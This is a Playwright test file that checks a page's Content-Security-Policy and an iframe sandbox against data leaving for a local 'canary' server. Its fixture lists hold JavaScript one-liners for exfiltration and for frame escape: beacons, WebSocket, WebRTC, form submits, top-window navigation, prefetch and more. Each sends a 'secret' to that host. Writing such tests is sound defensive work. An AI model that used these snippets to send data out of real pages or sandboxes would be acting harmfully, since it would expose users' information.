/**
 * What shows that the other tests could fail: outside the sandbox each way to the canary is heard, and
 * the page's policy alone, without the frame's, keeps a frame from leaving with what it knows.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "@playwright/test";
import { hashSource, pagePolicy } from "../src/integrations/page-policy.ts";
import { startCanary } from "./sandbox/canary.ts";

/** Serves one page; `policy` undefined: without any. */
async function servePlainPage(body: string, policy: string | undefined) {
  const server = createServer((_request, response) => {
    response.writeHead(200, {
      "Content-Type": "text/html",
      ...(policy === undefined ? {} : { "Content-Security-Policy": policy }),
    });
    response.end(`<!doctype html><meta charset="utf-8"><title>Page</title><body>${body}`);
  });
  await new Promise<void>((resolve) => server.listen(0, "localhost", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    address: `http://localhost:${port}/`,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => {
          resolve();
        });
        server.closeAllConnections();
      }),
  };
}

/** Each is a script of a page without a policy. */
const ways: readonly (readonly [name: string, code: (canary: string) => string])[] = [
  ["fetch", (canary) => `fetch("http://${canary}/fetch", { mode: "no-cors" })`],
  [
    "XMLHttpRequest",
    (canary) =>
      `const request = new XMLHttpRequest(); request.open("GET", "http://${canary}/xhr"); request.send();`,
  ],
  ["WebSocket", (canary) => `new WebSocket("ws://${canary}/socket")`],
  ["EventSource", (canary) => `new EventSource("http://${canary}/events")`],
  ["import", (canary) => `import("http://${canary}/import.js")`],
  [
    "import in a blob worker",
    (canary) =>
      `new Worker(URL.createObjectURL(new Blob(['import("http://${canary}/worker-import.js")'])))`,
  ],
  [
    "importScripts in a blob worker",
    (canary) =>
      `new Worker(URL.createObjectURL(new Blob(['importScripts("http://${canary}/scripts.js")'])))`,
  ],
  [
    "fetch in a blob worker",
    (canary) =>
      `new Worker(URL.createObjectURL(new Blob(['fetch("http://${canary}/worker-fetch")'])))`,
  ],
  ["an image", (canary) => `new Image().src = "http://${canary}/image.png"`],
  ["a beacon", (canary) => `navigator.sendBeacon("http://${canary}/beacon", "secret")`],
  ["a font", (canary) => `new FontFace("f", "url(http://${canary}/font.woff2)").load()`],
  [
    "WebRTC",
    (canary) => `const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:${canary}" }] });
peer.createDataChannel("x");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));`,
  ],
];

test.describe("the canary hears, where nothing keeps a page from it,", () => {
  for (const [name, code] of ways) {
    test(name, async ({ page }) => {
      const canary = await startCanary();
      const server = await servePlainPage(
        `<script>${code(`127.0.0.1:${canary.port}`)}</script>`,
        undefined,
      );
      try {
        await page.goto(server.address);
        await expect.poll(() => canary.takeSightings().length).toBeGreaterThan(0);
      } finally {
        await server.close();
        await canary.close();
      }
    });
  }
});

/** What a frame's own document may try; the sandbox's frame runs no code of a cell, so this is one layer down. */
const escapes: readonly (readonly [name: string, code: (canary: string) => string])[] = [
  ["its location", (canary) => `location.href = "http://${canary}/?secret"`],
  ["location.replace", (canary) => `location.replace("http://${canary}/?secret")`],
  [
    "a refresh",
    (canary) =>
      `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=http://${canary}/?secret">')`,
  ],
  [
    "a link that it clicks",
    (canary) =>
      `const link = document.createElement("a"); link.href = "http://${canary}/?secret"; document.body.append(link); link.click();`,
  ],
  ["the top window", (canary) => `try { top.location = "http://${canary}/?secret"; } catch {}`],
  ["a popup", (canary) => `try { open("http://${canary}/?secret"); } catch {}`],
  [
    "a form",
    (canary) =>
      `const form = document.createElement("form"); form.action = "http://${canary}/"; document.body.append(form); form.submit();`,
  ],
  [
    "a frame in it",
    (canary) =>
      `const inner = document.createElement("iframe"); inner.src = "http://${canary}/?secret"; document.body.append(inner);`,
  ],
  ["an image", (canary) => `new Image().src = "http://${canary}/?secret"`],
  ["fetch", (canary) => `fetch("http://${canary}/?secret", { mode: "no-cors" }).catch(() => {})`],
  [
    "a worker's fetch",
    (canary) =>
      `new Worker(URL.createObjectURL(new Blob(['fetch("http://${canary}/?secret").catch(() => {})'])))`,
  ],
  [
    "a prefetch",
    (canary) =>
      `document.head.insertAdjacentHTML("beforeend", '<link rel="prefetch" href="http://${canary}/?secret">')`,
  ],
];

test.describe("the page's policy alone keeps a sandboxed frame from leaving by", () => {
  for (const [name, code] of escapes) {
    test(name, async ({ page }) => {
      const canary = await startCanary();
      const script = `${code(`127.0.0.1:${canary.port}`)};
parent.postMessage("tried", "*");`;
      const host = `const frame = document.createElement("iframe");
frame.setAttribute("sandbox", "allow-scripts");
addEventListener("message", () => { document.title = "tried"; }, { once: true });
frame.srcdoc = "<body><script>" + ${JSON.stringify(script).replaceAll("<", "\\x3C")} + "<\\/script>";
document.body.append(frame);`;
      const policy = pagePolicy({ scripts: [host], styles: [] }, hashSource(script));
      const server = await servePlainPage(`<script>${host}</script>`, policy);
      try {
        await page.goto(server.address);
        await expect(page).toHaveTitle("tried");
        // What the frame has begun would go out before the page's own next request is answered.
        await page.evaluate(() => fetch("/").then((response) => response.text()));
        await page.evaluate(() => fetch("/").then((response) => response.text()));
        // Chromium connects ahead of a navigation, before it asks the policy: nothing is said over it.
        const said = canary.takeSightings().filter((sighting) => sighting !== "a connection");
        expect(said).toEqual([]);
        expect(page.url()).toBe(server.address);
      } finally {
        await server.close();
        await canary.close();
      }
    });
  }
});
